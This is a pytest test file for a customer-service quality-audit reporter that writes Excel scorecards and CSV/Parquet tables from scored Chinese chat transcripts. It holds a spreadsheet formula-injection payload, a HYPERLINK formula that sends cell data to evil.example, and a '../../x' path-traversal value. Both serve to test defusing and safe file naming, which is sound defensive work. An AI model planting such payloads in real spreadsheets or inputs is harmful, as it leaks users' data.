"""The scorecard workbook and the tables beside it, opened from real files on disk."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest

from qa_audit.model import (
    Audit,
    ComplaintTag,
    Conversation,
    ConversationResult,
    Finding,
    RuleInfo,
    ScoringPolicy,
    Turn,
)
from qa_audit.report import write_outputs
from qa_audit.report.aggregate import Aggregator
from qa_audit.report.excel import ScorecardWriter
from qa_audit.report.safe import safe_file_stem
from qa_audit.report.tables import conversation_row, finding_rows
from qa_audit.scoring import rule_losses, score_conversation

POLICY = ScoringPolicy(base=100.0, pass_threshold=80.0)
RULES = (
    RuleInfo("must.greeting", "首句问候", "minor", 10, version="aa01"),
    RuleInfo("must.nin", "您字不离口", "minor", 5, cap=10, version="aa02"),
    RuleInfo("must.goodbye", "再见结尾", "minor", 10, version="aa03"),
    RuleInfo("dont.harsh", "生硬语言", "major", 20, cap=30, version="aa04"),
    RuleInfo("dont.blame_shift", "推卸责任", "critical", 20, veto=True, version="aa05"),
    RuleInfo("complaint.apology", "投诉致歉", "major", 20, version="aa06"),
    RuleInfo("complaint.deadline", "答复时限", "major", 15, version="aa07"),
)
PACK = {r.id: r for r in RULES}
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点我查看订单")'


def make(
    cid: str,
    agent: tuple[str, str, str],
    texts: list[tuple[str, str]],
    hits: list[tuple[str, int, str]],
    *,
    started: str = "2026-11-21T10:05:00+08:00",
    complaint: bool = False,
    customer: str = "要求型",
    missing: tuple[tuple[str, int, list[int]], ...] = (),
    tier: str = "deduct",
) -> ConversationResult:
    """Build a result: `hits` are (rule id, turn index, matched words) found in that turn's text;
    `missing` are require-kind findings (rule id, anchor turn, searched turns) with nothing to mark."""
    turns = tuple(Turn(i, role, text) for i, (role, text) in enumerate(texts))
    findings = []
    for rid, idx, match in hits:
        rule = PACK[rid]
        text = turns[idx].text
        start = text.index(match)
        findings.append(
            Finding(
                rid,
                rule.severity,
                rule.points,
                idx,
                turns[idx].role,
                (start, start + len(match)),
                match,
                f"{rule.title}：{match}",
                {"kind": "forbid", "operator": "any", "matched": match, "exceptions_considered": []},
                tier=tier,
                finding_id=f"{cid}-{rid}-{idx}",
            )
        )
    for rid, idx, searched in missing:
        rule = PACK[rid]
        evidence = {"kind": "require", "searched_turns": searched, "exceptions_considered": []}
        findings.append(
            Finding(
                rid, rule.severity, rule.points, idx, "agent", None, "", rule.title, evidence, finding_id=f"{cid}-{rid}"
            )
        )
    failed = {f.rule_id for f in findings if f.deducts}
    flagged = {f.rule_id for f in findings if not f.deducts}

    def status(rid: str) -> str:
        if rid.startswith("complaint.") and not complaint:
            return "n/a"
        return "fail" if rid in failed else "review" if rid in flagged else "pass"

    checks = {r.id: status(r.id) for r in RULES}
    audit = Audit(tuple(findings), checks)
    conv = Conversation(cid, turns, "chat", agent[0], agent[1], agent[2], started, source="day.jsonl", line=1)
    tag = ComplaintTag("物流配送", 0.9 if complaint else 0.1, False, complaint, customer)
    return ConversationResult(conv, audit, score_conversation(audit, PACK, POLICY), tag, "v-test-1")


WANG = ("A023", "王丽", "售后一组")
LI = ("A031", "李强", "售后二组")


def day_of_results() -> list[ConversationResult]:
    return [
        make(
            "C1",
            WANG,
            [
                ("agent", "您好，请问有什么可以帮您？"),
                ("customer", "我的快递三天没动了"),
                ("agent", "你把单号发我，我查一下。"),
                ("customer", "JD0000000001"),
                ("agent", "好的。"),
            ],
            [("must.nin", 2, "你")],
            missing=(("must.goodbye", 4, [2, 4]),),
        ),
        make(
            "C2",
            WANG,
            [
                ("agent", "您好，请问有什么可以帮您？"),
                ("customer", "你们这什么服务，我要投诉！"),
                ("agent", "这个不是我受理的，我不清楚，您拨打其他电话问问。"),
            ],
            [("dont.blame_shift", 2, "不是我受理的")],
            complaint=True,
            customer="激动型",
        ),
        make(
            "C3",
            LI,
            [
                ("agent", "您好，很高兴为您服务。"),
                ("customer", INJECTION),
                ("agent", INJECTION + " 这种链接请不要点，急什么。"),
            ],
            [("dont.harsh", 2, "急什么")],
            started="2026-11-21T15:40:00+08:00",
        ),
        make(
            "C4",
            LI,
            [
                ("agent", "您好，请问有什么可以帮您？"),
                ("customer", "发票怎么开？"),
                ("agent", "请您在订单详情页申请，感谢您的耐心，再见！"),
            ],
            [],
        ),
    ]


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[ConversationResult]]:
    results = day_of_results()
    outdir = tmp_path_factory.mktemp("out")
    write_outputs(outdir, iter(results), RULES, POLICY, formats=("csv", "parquet"))
    return outdir, results


def rows(ws) -> list[tuple]:
    return list(ws.iter_rows(min_row=2, values_only=True))


def header(ws) -> list[str]:
    return [c.value for c in ws[1]]


QUOTE = "原文（命中处【】标出；缺失写明应有内容）"


def by_header(ws) -> list[dict]:
    h = header(ws)
    return [dict(zip(h, r, strict=False)) for r in rows(ws)]


def test_workbook_has_the_sheets_headers_and_one_row_per_finding(out):
    outdir, results = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    assert wb.sheetnames[:6] == ["汇总", "坐席", "坐席×规则", "发现明细", "会话原文", "会话"]
    assert {"分组统计", "规则"} <= set(wb.sheetnames)
    findings = wb["发现明细"]
    assert header(findings)[:4] == ["会话ID", "坐席工号", "坐席姓名", "轮次"]
    # the store and `review import` read these by name
    assert {"规则ID", "严重度", "计入扣分", QUOTE, "证据", "发现ID", "复核结果", "复核人", "复核备注"} <= set(
        header(findings)
    )
    assert len(rows(findings)) == sum(len(r.audit.findings) for r in results) == 4
    assert len(rows(wb["会话"])) == len(results)
    assert len(rows(wb["坐席"])) == 2
    rules = wb["规则"]
    assert [r[0] for r in rows(rules)] == [r.id for r in RULES]
    assert rows(rules)[0][header(rules).index("版本哈希")] == "aa01"
    for ws in (findings, wb["会话"], wb["坐席"], rules, wb["会话原文"]):
        assert ws.freeze_panes == "B2"
        assert ws.auto_filter.ref.startswith("A1:")
    # English names ride along in the header notes
    assert "rule id" in findings.cell(1, header(findings).index("规则ID") + 1).comment.text


def test_values_are_chinese_and_turns_count_from_one(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    found = by_header(wb["发现明细"])
    assert {f["严重度"] for f in found} <= {"严重", "重要", "一般", "提示"}
    assert {f["角色"] for f in found} == {"坐席"}
    assert {f["渠道"] for f in found} == {"在线"}
    assert {f["处理"] for f in found} == {"扣分"}
    nin = next(f for f in found if f["规则ID"] == "must.nin")
    assert (nin["轮次"], nin["分值"]) == (3, 5)  # the third line of C1
    assert {c["合格"] for c in by_header(wb["会话"])} == {"合格", "不合格"}
    transcript = by_header(wb["会话原文"])
    c1 = [t for t in transcript if t["会话ID"] == "C1" and t["轮次"] is not None]
    assert [t["轮次"] for t in c1] == [1, 2, 3, 4, 5]
    assert [t["角色"] for t in c1[:2]] == ["坐席", "客户"]
    assert {r[header(wb["规则"]).index("严重度")] for r in rows(wb["规则"])} <= {"严重", "重要", "一般", "提示"}
    # the machine-readable tables keep the codes and count turns from 0
    with open(outdir / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert {r["severity"] for r in table} <= {"critical", "major", "minor"} and {r["role"] for r in table} == {"agent"}
    assert next(r for r in table if r["rule_id"] == "must.nin")["turn_index"] == "2"


def test_evidence_is_a_sentence_and_a_missing_behaviour_says_what_and_where(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    found = {f["规则ID"]: f for f in by_header(wb["发现明细"])}
    assert all(not str(f["证据"]).startswith("{") for f in found.values())
    assert found["must.nin"]["证据"] == "命中「你」"
    assert found["must.nin"][QUOTE] == "【你】把单号发我，我查一下。"
    goodbye = found["must.goodbye"]
    assert goodbye[QUOTE] == "坐席最后两句缺少「再见结尾」"  # not the anchor turn's text again
    assert goodbye["证据"] == "第 3、5 轮均未出现要求的说法"
    assert goodbye["轮次"] == 5


def test_every_finding_links_to_its_conversation_row_and_to_its_turn_in_the_transcript(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx", rich_text=True)
    findings = wb["发现明细"]
    h = header(findings)
    turn_col = h.index("轮次") + 1
    for r in range(2, findings.max_row + 1):
        cell = findings.cell(r, 1)
        sheet, ref = cell.hyperlink.location.rsplit("!", 1)
        assert wb[sheet.strip("'")][ref].value == cell.value
        turn = findings.cell(r, turn_col)
        sheet, ref = turn.hyperlink.location.rsplit("!", 1)
        assert sheet == "'会话原文'"
        target = wb["会话原文"][ref].row
        line = [c.value for c in wb["会话原文"][target]]
        assert (str(line[0]), line[1]) == (str(cell.value), turn.value)
        assert wb["会话原文"].cell(target, 1).fill.fgColor.rgb.endswith("FFC7CE")  # the finding's turn is filled
    # the words of a finding are marked in the transcript (bold red rich text)
    ts = wb["会话原文"]
    nin = next(r for r in ts.iter_rows(min_row=2) if r[0].value == "C1" and r[1].value == 3)
    marked = [b for b in nin[4].value if not isinstance(b, str)]
    assert [b.text for b in marked] == ["你"] and marked[0].font.b
    assert (
        "缺少「再见结尾」"
        in next(r for r in ts.iter_rows(min_row=2) if r[0].value == "C1" and r[1].value == 5)[5].value
    )


def test_agent_rule_matrix_totals_equal_the_findings_sheet(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    found = by_header(wb["发现明细"])
    matrix = wb["坐席×规则"]
    mh = header(matrix)
    agents = [r for r in by_header(matrix) if r["坐席工号"] not in (None, "合计")]
    assert [a["坐席工号"] for a in agents] == ["A023", "A031"]  # worst mean score first
    titles = {r.title: r.id for r in RULES}
    for a in agents:
        mine = [f for f in found if f["坐席工号"] == a["坐席工号"] and f["类别"] != "加分" and f["处理"] == "扣分"]
        assert a["合计扣分"] == sum(f["计入扣分"] for f in mine)
        assert a["扣分发现"] == len(mine)
        for title in mh[8:]:
            lost = sum(f["计入扣分"] for f in mine if f["规则ID"] == titles[title])
            assert (a[title] or 0) == lost
    assert agents[0]["失分最多"] == "推卸责任"
    # each agent and each non-empty cell links to a finding of that agent
    link = matrix.cell(2, 1).hyperlink.location.rsplit("!", 1)
    assert wb[link[0].strip("'")][link[1]].value in {"C1", "C2"}
    agent_link = wb["坐席"].cell(2, 1).hyperlink.location
    assert agent_link.startswith("'发现明细'!")


def test_review_flags_are_chinese_coloured_and_cost_nothing(tmp_path):
    flagged = make("R1", LI, [("agent", "您好"), ("agent", "你等着")], [("must.nin", 1, "你")], tier="review")
    write_outputs(tmp_path, [flagged, *day_of_results()], RULES, POLICY)
    wb = openpyxl.load_workbook(tmp_path / "scorecard.xlsx")
    row = next(f for f in by_header(wb["发现明细"]) if f["会话ID"] == "R1")
    assert (row["处理"], row["计入扣分"]) == ("待复核", 0)
    rules = [r for cf in wb["发现明细"].conditional_formatting for r in cf.rules]
    assert any("待复核" in (r.formula or [""])[0] for r in rules)
    li = next(r for r in by_header(wb["坐席×规则"]) if r["坐席工号"] == "A031")
    assert li["待复核"] == 1


def test_times_are_shown_in_the_chosen_zone(tmp_path):
    utc = make("T1", WANG, [("agent", "你好")], [("must.nin", 0, "你")], started="2026-11-21T02:05:00Z")
    write_outputs(tmp_path, [utc], RULES, POLICY, timezone="Asia/Shanghai", formats=("csv",))
    wb = openpyxl.load_workbook(tmp_path / "scorecard.xlsx")
    conv = by_header(wb["会话"])[0]
    assert conv["开始时间（Asia/Shanghai）"] == "2026-11-21 10:05"
    assert conv["时段"] == 10
    summary = [r for r in wb["汇总"].iter_rows(values_only=True) if r[0] in ("时区", "生成时间")]
    assert summary[0][1].startswith("Asia/Shanghai, UTC+08:00")
    with pytest.raises(ValueError, match="time zone"):
        write_outputs(tmp_path / "x", [], RULES, POLICY, timezone="Mars/Olympus")


def test_every_sheet_has_a_print_layout(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert "&P" in ws.oddFooter.center.text and "生成于" in ws.oddFooter.right.text, ws.title
        if ws.title not in ("汇总", "分组统计"):
            assert ws.print_title_rows == "$1:$1", ws.title
            assert ws.print_title_cols in ("$A:$A", "$A:$B"), ws.title
    # the findings sheet prints the readable columns only: id .. evidence
    area = wb["发现明细"].print_area
    assert area.endswith(f"$A$1:$K${wb['发现明细'].max_row}")
    assert header(wb["发现明细"])[10] == "证据"


def test_score_chart_axis_fits_the_data():
    from qa_audit.report.excel_sheets import axis_range

    low, high = axis_range([88.0, 90.5, 92.0], 0.0, 100.0)
    assert 80 <= low < 88 and 92 < high <= 100
    assert axis_range([100.0, 100.0], 0.0, 100.0) == (99.0, 100.0)  # never above the base score


def test_text_that_looks_like_a_formula_is_a_string_cell(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    ws = wb["发现明细"]
    col = header(ws).index(QUOTE) + 1
    cells = [ws.cell(r, col) for r in range(2, ws.max_row + 1) if str(ws.cell(r, col).value).startswith("=")]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert cells[0].value == INJECTION + " 这种链接请不要点，【急什么】。"
    for sheet in wb:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title


def test_conversation_and_agent_rows_carry_the_scores(out):
    outdir, _ = out
    wb = openpyxl.load_workbook(outdir / "scorecard.xlsx")
    conv = wb["会话"]
    h = header(conv)
    got = {r[0]: r for r in rows(conv)}
    # C1: 你 (-5) and no goodbye (-10) with the complaint rules n/a: 100 - 15
    assert got["C1"][h.index("得分")] == 85
    assert got["C1"][h.index("合格")] == "合格"
    assert got["C2"][h.index("一票否决")] == "是" and got["C2"][h.index("得分")] == 0
    assert "complaint.apology" in got["C1"][h.index("不适用规则")]
    agents = wb["坐席"]
    ah = header(agents)
    wang = next(r for r in rows(agents) if r[0] == "A023")
    assert wang[ah.index("平均分")] == round((85 + 0) / 2, 2)
    assert wang[ah.index("会话数")] == 2
    assert wang[ah.index("主要失分规则")].startswith("推卸责任 −20（1通）")
    rules = {r[0]: r for r in rows(wb["规则"])}
    assert rules["must.nin"][header(wb["规则"]).index("扣分合计")] == 5


def test_jsonl_csv_and_parquet_come_from_the_same_rows(out):
    outdir, results = out
    lines = [json.loads(x) for x in (outdir / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(lines) == 4
    first = lines[0]
    assert {
        "conversation_id",
        "agent_id",
        "team",
        "channel",
        "day",
        "rule_id",
        "severity",
        "points",
        "turn_index",
        "role",
        "span",
        "match",
        "message",
        "evidence",
    } <= set(first)
    assert (first["conversation_id"], first["day"], first["span"]) == ("C1", "2026-11-21", [0, 1])
    assert not (outdir / "results.jsonl").exists()  # the pipeline writes that one
    with open(outdir / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    assert len(table) == 4
    harsh = next(r for r in table if r["rule_id"] == "dont.harsh")
    assert harsh["turn_text"].startswith("'=HYPERLINK(")  # defused for spreadsheets
    with open(outdir / "conversations.csv", encoding="utf-8-sig", newline="") as fh:
        assert len(list(csv.DictReader(fh))) == len(results)
    parquet = pq.read_table(outdir / "findings.parquet").to_pylist()
    assert [r["rule_id"] for r in parquet] == [x["rule_id"] for x in lines]
    assert pq.read_table(outdir / "conversations.parquet").num_rows == len(results)


def test_long_and_control_character_text_is_cut_with_a_note_not_a_crash(tmp_path):
    long_text = "您" + "好" * 40_000 + "，急什么\x01"
    result = make("C9", WANG, [("agent", long_text)], [("dont.harsh", 0, "急什么")])
    summary = write_outputs(tmp_path, [result], RULES, POLICY)
    assert summary.truncated_cells == 2  # the quote in 发现明细 and the turn in 会话原文
    ws = openpyxl.load_workbook(tmp_path / "scorecard.xlsx")["发现明细"]
    text = ws.cell(2, header(ws).index(QUOTE) + 1).value
    assert len(text) <= 32_767 and "已截断" in text
    notes = [r[1] for r in openpyxl.load_workbook(tmp_path / "scorecard.xlsx")["汇总"].iter_rows(values_only=True)]
    assert any("截断" in str(n) for n in notes)


def write_book(book: ScorecardWriter, results: list) -> None:
    """Feed results to a workbook writer the way write_outputs does, then close it."""
    agg = Aggregator()
    for r in results:
        losses = rule_losses(r.audit, PACK)
        row = conversation_row(r, losses)
        agg.add(row, losses)
        book.add(row, finding_rows(r, PACK, losses))
    book.close(agg.result(PACK, POLICY))


def test_a_full_sheet_continues_on_a_numbered_sheet_with_working_links(tmp_path):
    results = [
        make(f"C{i}", WANG, [("agent", "你好"), ("customer", "在吗")], [("must.nin", 0, "你")]) for i in range(7)
    ]
    path = tmp_path / "small.xlsx"
    write_book(ScorecardWriter(path, RULES, POLICY, max_rows=4), results)  # header + 3 rows per sheet
    wb = openpyxl.load_workbook(path)
    assert {"发现明细(2)", "发现明细(3)", "会话(2)", "会话(3)"} <= set(wb.sheetnames)
    assert sum(len(rows(wb[n])) for n in wb.sheetnames if n.startswith("发现明细")) == 7
    last = wb["发现明细(3)"].cell(2, 1)
    sheet, ref = last.hyperlink.location.rsplit("!", 1)
    assert sheet == "'会话(3)'" and wb["会话(3)"][ref].value == "C6"
    assert any("续表" in str(r[1]) for r in wb["汇总"].iter_rows(values_only=True))


def test_links_stop_at_the_per_sheet_limit_with_a_note(tmp_path):
    results = [make(f"C{i}", WANG, [("agent", "你好")], [("must.nin", 0, "你")]) for i in range(4)]
    path = tmp_path / "links.xlsx"
    write_book(ScorecardWriter(path, RULES, POLICY, max_links=2), results)
    wb = openpyxl.load_workbook(path)
    linked = [wb["发现明细"].cell(r, 1).hyperlink is not None for r in range(2, 6)]
    assert linked == [True, True, False, False]
    assert [c.value for c in wb["发现明细"]["A"][1:]] == ["C0", "C1", "C2", "C3"]
    assert any("超链接" in str(r[1]) for r in wb["汇总"].iter_rows(values_only=True))


def test_split_by_agent_writes_one_private_workbook_each_inside_the_output_dir(tmp_path):
    sneaky = ("../../x", "测试", "售后一组")
    results = [*day_of_results(), make("C5", sneaky, [("agent", "你好")], [("must.nin", 0, "你")])]
    summary = write_outputs(tmp_path / "out", results, RULES, POLICY, split_by="agent")
    assert len(summary.split_paths) == 3
    by_agent = (tmp_path / "out" / "by_agent").resolve()
    for p in summary.split_paths:
        assert p.resolve().parent == by_agent
    assert not list(tmp_path.glob("x*")) and not (tmp_path / "out" / "x.xlsx").exists()
    wang = openpyxl.load_workbook(by_agent / "A023.xlsx")
    assert {r[1] for r in rows(wang["会话"])} == {"A023"}
    assert {r[1] for r in rows(wang["发现明细"])} == {"A023"}
    assert len(rows(wang["发现明细"])) == 3
    # the same views, for this agent only
    assert {"坐席×规则", "会话原文"} <= set(wang.sheetnames)
    assert {r[0] for r in rows(wang["坐席×规则"])} == {"A023", "合计"}
    assert {r[0] for r in rows(wang["会话原文"])} == {"C1", "C2"}


def test_split_by_team_writes_one_workbook_per_team(tmp_path):
    summary = write_outputs(tmp_path, day_of_results(), RULES, POLICY, split_by="team")
    assert sorted(p.name for p in summary.split_paths) == ["售后一组.xlsx", "售后二组.xlsx"]
    second = openpyxl.load_workbook(tmp_path / "by_team" / "售后二组.xlsx")
    assert {r[1] for r in rows(second["会话"])} == {"A031"}


def test_file_stems_never_escape_or_collide():
    assert safe_file_stem("A023") == "A023"
    for bad in ("../../x", "..", "a/b", "a\\b", "CON", "", "坐席/01"):
        stem = safe_file_stem(bad)
        assert "/" not in stem and "\\" not in stem and not stem.startswith(".")
        assert stem
    assert safe_file_stem("a/b") != safe_file_stem("a_b")


def test_a_failure_midway_leaves_the_previous_outputs_untouched(tmp_path):
    write_outputs(tmp_path, day_of_results(), RULES, POLICY)
    before = (tmp_path / "scorecard.xlsx").read_bytes()

    def broken():
        yield from day_of_results()[:2]
        raise RuntimeError("reader died")

    with pytest.raises(RuntimeError):
        write_outputs(tmp_path, broken(), RULES, POLICY, formats=("csv",))
    assert (tmp_path / "scorecard.xlsx").read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["findings.jsonl", "scorecard.xlsx"]


def test_unknown_format_or_split_key_is_a_clear_error(tmp_path):
    with pytest.raises(ValueError, match="xls"):
        write_outputs(tmp_path, [], RULES, POLICY, formats=("xls",))
    with pytest.raises(ValueError, match="split"):
        write_outputs(tmp_path, [], RULES, POLICY, split_by="shift")


def test_empty_input_still_gives_a_valid_workbook(tmp_path):
    summary = write_outputs(tmp_path, [], RULES, POLICY)
    assert summary.conversations == 0
    wb = openpyxl.load_workbook(tmp_path / "scorecard.xlsx")
    assert rows(wb["发现明细"]) == []


def aggregate(results: list[ConversationResult]):
    agg = Aggregator()
    for r in results:
        losses = rule_losses(r.audit, PACK)
        agg.add(conversation_row(r, losses), losses)
    return agg.result(PACK, POLICY)


def test_four_alike_flags_an_agent_who_slips_in_busy_hours_and_says_when_data_is_short():
    harsh = [("agent", "您好"), ("agent", "急什么，等着。")]
    clean = [("agent", "您好"), ("agent", "请稍等，感谢您的耐心，再见！")]
    results = []
    # hour -> conversations: 10h 6, 11h 2, 12h 3 are busy (above the median 1.5); 14-16h quiet
    for hour, n in ((10, 6), (11, 2), (12, 3), (14, 1), (15, 1), (16, 1)):
        for k in range(n):
            busy = hour < 14
            results.append(
                make(
                    f"W{hour}-{k}",
                    WANG,
                    harsh if busy else clean,
                    [("dont.harsh", 1, "急什么")] if busy else [],
                    started=f"2026-11-21T{hour:02d}:{k:02d}:00+08:00",
                )
            )
    results += [make("L1", LI, clean, []), make("L2", LI, clean, [], customer="激动型")]
    agents = {a["agent_id"]: a for a in aggregate(results).agents}
    wang, li = agents["A023"], agents["A031"]
    # harsh costs 20 points: 100 - 20
    assert (wang["busy_mean"], wang["quiet_mean"], wang["load_gap"]) == (80.0, 100.0, -20.0)
    assert wang["consistency"] == "⚠ 忙闲差异大"
    assert wang["mood_gap"] is None  # no agitated customers at all
    assert li["consistency"] == "数据不足"
    assert wang["top_lost"] == "生硬语言 −220（11通）"  # titles, not ids


def test_too_few_hours_means_no_busy_quiet_split():
    agg = aggregate(day_of_results())
    assert agg.busy_hours == "数据不足"
    assert all(a["load_gap"] is None for a in agg.agents)
    assert {r["key"] for r in agg.complaint_types} == {"物流配送"}
    assert agg.overall["complaint_mix_basis"] == "投诉会话"
